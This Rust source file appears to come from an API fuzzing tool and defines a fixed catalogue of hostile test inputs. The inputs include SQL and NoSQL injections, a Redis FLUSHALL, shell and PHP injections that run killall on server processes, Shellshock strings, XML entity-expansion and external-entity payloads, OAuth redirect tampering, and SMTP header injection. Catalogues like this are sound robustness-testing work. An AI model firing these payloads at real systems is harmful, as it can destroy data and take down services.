//! The static anomaly catalogue.
//!
//! A curated, ordered list of 163 hostile leaf values. Each entry is
//! designed to provoke a *server-visible* failure — a 5xx, a timeout, a
//! killed worker — rather than a reflected payload, because nothing
//! re-scans response bodies for echoes. The list is part of the tool's
//! wire contract: entries are never reordered or edited between
//! releases, only appended.
//!
//! Domain references point at `barrage.example`; replace them with a
//! domain you control before pointing this at anything that sends mail
//! or follows redirects out of your test environment.

use barrage_core::Value;
use indexmap::IndexMap;

/// The catalogue, in injection order.
pub fn catalogue() -> &'static [Value] {
    Box::leak(build().into_boxed_slice())
}

fn t(s: &str) -> Value {
    Value::text(s)
}

fn b(bytes: &[u8]) -> Value {
    Value::Bytes(bytes.to_vec())
}

fn build() -> Vec<Value> {
    let mut list = vec![
        // Valid cases
        t("A harmless string"),
        t("åäö"), // Scandinavian characters as UTF-8
        // SQL and NoSQL injections
        t("' --"), // SQL: end statement, start comment
        t("' or 'x'='x' --"), // SQL: always true for strings
        t("' or 1=1 --"), // SQL: end statement, evaluate to always true
        t("1 OR 1=1 --"), // SQL: always true for numbers
        t("'; select datname from pg_database; --"), // PostgreSQL: list all tables
        t("\\''; select datname from pg_database; --"), // extra escape
        t("&apos;&59; select datname from pg_database&59; --"), // HTML entities
        t("'; SHOW DATABASES; --"), // MySQL: list all databases
        t("\\''; SHOW DATABASES; --"),
        t("&apos;&59; SHOW DATABASES&59; --"),
        t("'; select global_name from global_name; --"), // Oracle: current database
        t("\\''; select global_name from global_name; --"),
        t("&apos;&59; select global_name from global_name&59; --"),
        t("'; select * from SQLITE_MASTER; --"), // SQLite: master table
        t("\\''; select * from SQLITE_MASTER; --"),
        t("&apos;&59; select * from SQLITE_MASTER&59; --"),
        t("'; select @@version; --"), // MS SQL Server: DB details
        t("\\''; select @@version; --"),
        t("&apos;&59; select @@version&59; --"),
        t(r#"/, "_id": /.*"#), // MongoDB: end find regex, match-all parameter
        t(r#".*/, $where : function() { sleep(1000000) }, "_id": /.*"#), // MongoDB: slow JS
        t(r#"{ $ne : ""}"#), // MongoDB: match non-empty
        t("{ $where : function() { sleep(1000000) } }"), // MongoDB: slow JS
        t("/.*/"), // MongoDB: match everything as a regex
        t("\nFLUSHALL"), // Redis: drop all keys
        t("\r\nFLUSHALL\r\n"),
        t("\"\n  while true do\n  end\nfoo=\""), // Redis: Lua injection into a string
        t("'\n  while true do\n  end\nfoo='"),
        t("_rev"), // CouchDB: revision confusion
        t(r#"", "map":"function(map) { while(1); }", ""#), // CouchDB: map function injection
        t("function(map) { while(1); }"),
        t("\")\nLOAD CSV FROM \"/dev/urandom\" AS line //"), // Cypher: induce a timeout
        t("')\nLOAD CSV FROM '/dev/urandom' AS line //"),
        // Regular expressions
        t(r"(?R)*"), // Infinite recursion (PCRE)
        t(r"\g<0>*"), // Infinite recursion (Ruby)
        t(r"(?0)*"), // Infinite recursion (Perl)
        // Shell injection
        t(r"`cat /dev/zero`"), // Backtick exec
        t(r"| cat /dev/zero;"), // Pipe exec
        t("< /dev/zero;"), // stdin from /dev/zero
        t("> /dev/null;"),
        t(&format!("{}dev/zero", "../".repeat(15))),
        t("`killall -g apache php nginx python perl node postgres bash`"),
        t("| killall -g apache php nginx python perl node postgres bash;"),
        t("`ping localhost`"), // Backtick exec aimed at a timeout
        t("' . `killall -g apache php nginx python perl node postgres bash` . '"), // single-quote PHP insert
        t("\" . `killall -g apache php nginx python perl node postgres bash` . \""),
        t("expect://killall%20-g%20apache%20php"), // PHP expect:// wrapper
        t("ssh2.exec://localhost/killall%20-g%20apache%20php"), // PHP ssh2 wrapper
        t("php://filter/resource=/dev/zero"),
        t("compress.zlib:///dev/zero"),
        t("glob://*"),
        t("\" . system('killall -g apache php nginx python perl node postgres bash'); . \""),
        t("' . system('killall -g apache php nginx python perl node postgres bash'); . '"),
        t("require('assert').fail(0,1,'Node injection','');"),
        t("var sys = require('assert'); sys.fail(0,1,'Node injection','');"),
        t("var exec = require('child_process').exec; exec('ping 127.0.0.1');"), // aim at timeout
        t("'; var exec = require('child_process').exec; exec('ping 127.0.0.1');"),
        t("() { :;}; exit"), // Shellshock: exit
        t("() { :;}; cat /dev/zero"), // Shellshock: hang
        // PHP injection
        t("<?php exit(1) ?>"), // PHP block with a nonzero exit
        t("><?php exit(1) ?>"),
        t("?>"), // End PHP block (or <?xml element)
        t("<?php"),
        // URI injections
        t("javascript:sleep(1000000)"),
        t("data:text/plain;charset=utf-8;base64,UE9TU0lCTEVfSU5KRUNUSU9OX1BST0JMRU0="),
        t("data:application/javascript;charset=utf-8;base64,c2xlZXAoMTAwMDAwMCkK"),
        t("data:text/html;charset=utf-8;base64,PGh0bWw+PHNjcmlwdD5hbGVydCgwKTwvc2NyaXB0PjwvaHRtbD4="),
        t("tel:+15005550006"), // No server-side effect, may open a client modal
        t("sms:+15005550006"),
        t("mailto:injections@barrage.example"),
        t("netdoc:///dev/zero"), // Oracle Java pseudo-scheme
        t("jar:///dev/zero!/foo"), // Try to open as a zip
        t("file:///dev/zero"),
        // Broken OAuth processing
        t("eyJhbGciOiJub25lIn0K.eyJyZnAiOiJiYXJyYWdlIiwKInRhcmdldF91cmkiOiJodHRwOi8vYmFycmFnZS5leGFtcGxlIn0K."), // a JWT state parameter
        t("redirect_uri"),
        t("state"),
        t("&access_token=DUMMY_TOKEN_FROM_BARRAGE&"),
        t("?access_token=DUMMY_TOKEN_FROM_BARRAGE&"),
        t("&redirect_uri=http://barrage.example/attack&"), // somewhere that returns an error
        t("?redirect_uri=http://barrage.example/attack&"),
        // Timestamps
        t("1969-12-31T11:59:59.99Z"), // Just before the epoch anywhere on Earth
        t("1969-12-31T23:59:59.99-25:00"), // In a place far away
        t("1969-12-31T23:59:59.99+25:00"),
        t("2273-01-01T12:00:00.00Z"),
        // Important numbers
        Value::Int(-1),
        t("-1"),
        Value::Int(0),
        t("0"),
        Value::Int(1),
        Value::Int(2),
        Value::Int(1i64 << 8),
        Value::Int(-(1i64 << 8)),
        Value::Int(1i64 << 16),
        Value::Int(-(1i64 << 16)),
        Value::Int(1i64 << 32),
        Value::Int(-(1i64 << 32)),
        Value::Int(-(1i64 << 53)), // I-JSON "guaranteed" integer limit minus one
        Value::Int(1i64 << 53),
        Value::Float((2f64).powi(256)),
        t("115792089237316195423570985008687907853269984665640564039457584007913129639936"),
        Value::Float(-(2f64).powi(256)),
        t("-115792089237316195423570985008687907853269984665640564039457584007913129639936"),
        Value::Float(1e-16),
        Value::Float(1e-32),
        Value::Float(3.141592653589793238462643383279), // more precision than usually handled
        t("\n1"),
        t("1\n"),
        Value::Float(2.2250738585072011e-308), // CVE-2010-4645
        t("2.2250738585072011e-308"),
        Value::Float(f64::INFINITY),
        Value::Float(f64::NEG_INFINITY),
        Value::Float(f64::NAN),
        // Truth values & stuff that isn't
        Value::Bool(true),
        Value::Bool(false),
        Value::Null,
        Value::Seq(Vec::new()), // empty list
        Value::Map(IndexMap::new()), // empty mapping
        // Strings
        t(""), // nothingness
        t("\n"),
        t("\r\n"),
        t("\n\r"),
        t(";"), // end a statement
        t("{{"), // start moustache
        t("}}"),
        t("\""), // close a string
        t("'"),
        t("/*"), // start of comment
        t("#"),
        t("//"),
        t("%"),
        t("--"), // start of SQL comment
        t("?#"), // start of PCRE comment
        t("\u{0}"), // NUL
        t("\u{0}xxxxxxxx"), // NUL followed by more data
        t("\u{1a}"), // ctrl-z, end of stream
        b(&[0xff, 0xfe]), // illegal as UTF-8
        b(&[0xff, 0xff]),
        t("\t"),
        xml_entity_expansion(),
        t(r#"<?xml version="1.0" encoding="utf-8"?><!DOCTYPE foo [<!ENTITY bar SYSTEM "file:///dev/zero">]><foo>&bar;</foo>"#), // external entity inclusion
        // Broken BSON (invalid Boolean value)
        b(b"c\x00\x00\x00\x0djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x02\x04array\x00\x05\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x02\x00\x00\x00\x00\x00\x00"),
        // Broken BSON (embedded document length overflow)
        b(b"c\x00\x00\x00\x0djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x01\x04array\x00\x06\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x02\x00\x00\x00\x00\x00\x00"),
        // Broken BSON (string length overflow)
        b(b"c\x00\x00\x00\x0djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x01\x04array\x00\x05\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x03\x00\x00\x00\x00\x00\x00"),
        broken_bson_trailing(),
        // Format strings
        t(r"%s"),
        t(r"%d"),
        // ANSI escapes: log injections that sparkle when the logs are
        // viewed on a terminal
        ansi_art(),
        t("\x1b[2JPOSSIBLE_INJECTION_PROBLEM"), // clear screen, show a message
        t("\x07\x07\x07\x07\x07\x07\x07\x07\x07\x07\x07\x07\x07\x07\x07"), // BELs
        // Email
        t("root@[127.0.0.1]"), // well-formed but localhost
        t("root@localhost"),
        t("@barrage.example"), // no user
        t("@"), // no user or domain
        t("nobody@barrage.example\nCc:nobodyneither@barrage.example"), // header injection
        t("nobody@barrage.example\r\nCc:nobodyneither@barrage.example"),
        t("\r\n.\r\n\r\nMAIL FROM:<root>\r\nRCPT TO:<nobody@barrage.example>\r\nDATA\r\nPOSSIBLE_INJECTION_PROBLEM\r\n.\r\n"), // SMTP injection
    ];

    // Long strings
    list.push(t(&"A".repeat(256)));
    list.push(t(&"A".repeat(1025)));
    list.push(t(&"A".repeat(65537)));
    list.push(t(&":-) =) XD o_O".repeat(10000))); // a lot of animated emoticons
    list.push(t(&"A".repeat(1024 * 1024))); // 1 MiB

    list
}

/// Exponential entity expansion: 100^3 copies of "exp" if the parser
/// expands blindly.
fn xml_entity_expansion() -> Value {
    let exp = "&exp;".repeat(100);
    let expa = "&expa;".repeat(100);
    let expan = "&expan;".repeat(100);
    t(&format!(
        r#"<?xml version="1.0"?><!DOCTYPE exp [ <!ENTITY exp "exp"><!ENTITY expa "{exp}"><!ENTITY expan "{expa}"><!ENTITY expand "{expan}"> ]><exp>&expand;</exp>"#
    ))
}

/// Broken BSON: end zero missing, plus filler for the parser to chew on.
fn broken_bson_trailing() -> Value {
    let mut bytes = b"c\x00\x00\x00\x0djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x01\x04array\x00\x05\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x02\x00\x00\x00\x00\x00"
        .to_vec();
    bytes.extend(std::iter::repeat(0x41).take(116));
    Value::Bytes(bytes)
}

fn ansi_art() -> Value {
    t(concat!(
        "\x1b[0;1;40;32mFFF\x1b[0m \x1b[1;32mU U\x1b[0m \x1b[1;31mZZZ\x1b[32m ZZZ\x1b[0m\r\n",
        "\x1b[32mF\x1b[0m   \x1b[1;32mU U\x1b[0m   \x1b[1;31mZ\x1b[32m   Z\x1b[0m\r\n",
        "\x1b[32mFF\x1b[0m  \x1b[1;32mU U\x1b[0m  \x1b[1;31mZ\x1b[32m   Z\x1b[0m\r\n",
        "\x1b[32mF\x1b[0m   \x1b[1;32mU U\x1b[0m \x1b[1;31mZ\x1b[32m   Z\x1b[0m\r\n",
        "\x1b[32mF\x1b[0m   \x1b[1;32mUUU\x1b[0m \x1b[1;31mZZZ\x1b[32m ZZZ\x1b[0m\r\n",
        "\x1a"
    ))
}
